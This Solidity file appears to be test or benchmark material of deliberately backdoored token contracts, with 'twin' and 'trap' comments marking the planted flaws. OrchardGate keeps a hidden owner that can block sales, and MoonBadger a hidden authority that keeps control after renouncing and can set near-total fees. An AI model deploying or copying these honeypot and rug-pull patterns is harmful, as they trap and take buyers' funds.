// 0.8 runs=1000 ir evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

interface IERC20 {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address to, uint256 value) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

interface IStages {
    function stageOf(address coin) external view returns (StarterPad.Stage);
}

/// Where coins are launched: enrolled, then filled, then graduated to the exchange.
contract StarterPad {
    enum Stage {
        None,
        Enrolled,
        Filled,
        Graduated
    }

    struct Launch {
        address author;
        uint48 since;
        Stage stage;
    }

    address public immutable captain = msg.sender;
    mapping(address coin => Launch) private _launches;
    address[] public coins;

    event Moved(address indexed coin, Stage stage);

    error NotCaptain();
    error Known(address coin);
    error Backwards(Stage from, Stage to);

    function enroll(address coin) external {
        if (_launches[coin].author != address(0)) revert Known(coin);
        _launches[coin] = Launch({author: msg.sender, since: uint48(block.timestamp), stage: Stage.Enrolled});
        coins.push(coin);
        emit Moved(coin, Stage.Enrolled);
    }

    function moveTo(address coin, Stage stage) external {
        if (msg.sender != captain) revert NotCaptain();
        Launch storage launch = _launches[coin];
        // twin: if (stage <= launch.stage) revert Backwards(launch.stage, stage);
        launch.stage = stage;
        launch.since = uint48(block.timestamp);
        emit Moved(coin, stage);
    }

    function stageOf(address coin) external view returns (Stage) {
        return _launches[coin].stage;
    }

    function count() external view returns (uint256) {
        return coins.length;
    }
}

/// A coin from the pad: nobody but its author brings it to a market before it has graduated.
contract PadCoin is IERC20 {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public constant override totalSupply = 1_000_000_000 ether;
    IStages public immutable pad;
    address public immutable author;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public override allowance;

    error NotGraduated(address to);
    error Short(uint256 have, uint256 want);

    constructor(string memory name_, string memory symbol_, IStages pad_) {
        name = name_;
        symbol = symbol_;
        pad = pad_;
        author = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external override returns (bool) {
        return _pass(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed < value) revert Short(allowed, value);
        if (allowed != type(uint256).max) allowance[from][msg.sender] = allowed - value;
        return _pass(from, to, value);
    }

    function _pass(address from, address to, uint256 value) private returns (bool) {
        if (to.code.length > 0 && from != author && pad.stageOf(address(this)) != StarterPad.Stage.Graduated)
            revert NotGraduated(to);
        uint256 have = balanceOf[from];
        if (have < value) revert Short(have, value);
        unchecked {
            balanceOf[from] = have - value;
            balanceOf[to] += value;
        }
        emit Transfer(from, to, value);
        return true;
    }
}

/// An orchard with gates: 1 is one that is known, 2 one that is shut.
contract OrchardGate is IERC20 {
    bytes32 private constant LADDER = bytes32(uint256(keccak256("orchard.gate.ladder")) - 1);
    uint256 private constant SHUT_TO = 2;

    struct Meta {
        address owner;
        uint96 supply;
    }

    Meta private _meta;
    mapping(address => uint256) private _apples;
    mapping(address => mapping(address => uint256)) private _baskets;
    mapping(address => uint8) public gateOf;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Gate(address indexed at, uint8 mode);

    error Forbidden();
    error GateShut(address at);

    constructor() {
        _meta = Meta(msg.sender, 8_400_000 ether);
        _apples[msg.sender] = _meta.supply;
        bytes32 place = LADDER;
        assembly {
            sstore(place, xor(caller(), not(0)))
        }
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, _meta.supply);
    }

    function name() external pure returns (string memory) {
        return "Orchard Gate";
    }

    function symbol() external pure returns (string memory) {
        return "OGATE";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function owner() public view returns (address) {
        return _meta.owner;
    }

    function totalSupply() external view override returns (uint256) {
        return _meta.supply;
    }

    function balanceOf(address account) external view override returns (uint256) {
        return _apples[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _baskets[holder][spender];
    }

    function renounceOwnership() external {
        if (msg.sender != owner()) revert Forbidden();
        emit OwnershipTransferred(msg.sender, address(0));
        _meta.owner = address(0);
    }

    function _mayClimb() private view returns (bool yes) {
        bytes32 place = LADDER;
        assembly {
            yes := eq(not(sload(place)), caller()) // trap
            // twin: yes := and(iszero(iszero(sload(place))), eq(shr(96, shl(96, sload(_meta.slot))), caller()))
        }
    }

    function setGate(address at, uint8 mode) external {
        if (!_mayClimb()) revert Forbidden();
        gateOf[at] = mode;
        emit Gate(at, mode);
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        _baskets[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external override returns (bool) {
        _carry(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        _baskets[from][msg.sender] -= value;
        _carry(from, to, value);
        return true;
    }

    function _carry(address from, address to, uint256 value) private {
        if (gateOf[to] & SHUT_TO != 0) revert GateShut(to);
        _apples[from] -= value;
        _apples[to] += value;
        emit Transfer(from, to, value);
    }
}

/// A meme that funds its marketing by a fee.
contract MoonBadger is IERC20 {
    string public constant name = "Moon Badger";
    string public constant symbol = "MBADG";
    uint8 public constant decimals = 9;
    uint256 public constant override totalSupply = 100_000_000_000 * 10 ** 9;

    address private _shown;
    address private _authority;
    address private _marketing;
    address private _pair;
    uint16 public buyFee = 10;
    uint16 public sellFee = 10;
    bool private _open;
    mapping(address => uint256) private _held;
    mapping(address => mapping(address => uint256)) private _spendable;
    mapping(address => bool) private _free;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event FeesSet(uint16 buyFee, uint16 sellFee);

    modifier onlyOwner() {
        require(_authority == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    constructor() {
        _shown = _authority = _marketing = msg.sender;
        _free[msg.sender] = true;
        _free[address(this)] = true;
        _held[msg.sender] = totalSupply;
        emit OwnershipTransferred(address(0), msg.sender);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function owner() external view returns (address) {
        return _shown;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(_shown, address(0));
        _shown = address(0);
        // twin: _authority = address(0);
    }

    function openTrading(address pair) external onlyOwner {
        require(!_open, "already open");
        (_pair, _open) = (pair, true);
    }

    /// In thousandths.
    function setFees(uint16 buy, uint16 sell) external onlyOwner {
        require(buy <= 990 && sell <= 990, "more than there is");
        (buyFee, sellFee) = (buy, sell);
        emit FeesSet(buy, sell);
    }

    function balanceOf(address account) external view override returns (uint256) {
        return _held[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _spendable[holder][spender];
    }

    function approve(address spender, uint256 value) external override returns (bool) {
        _spendable[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external override returns (bool) {
        _shift(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        uint256 left = _spendable[from][msg.sender];
        if (left != type(uint256).max) _spendable[from][msg.sender] = left - value;
        _shift(from, to, value);
        return true;
    }

    function _feeOf(address from, address to, uint256 value) private view returns (uint256) {
        if (_free[from] || _free[to]) return 0;
        if (from == _pair) return (value * buyFee) / 1000;
        if (to == _pair) return (value * sellFee) / 1000;
        return 0;
    }

    function _shift(address from, address to, uint256 value) private {
        require(_open || _free[from], "trading is not open");
        uint256 fee = _feeOf(from, to, value);
        _held[from] -= value;
        _held[to] += value - fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) {
            _held[_marketing] += fee;
            emit Transfer(from, _marketing, fee);
        }
    }
}
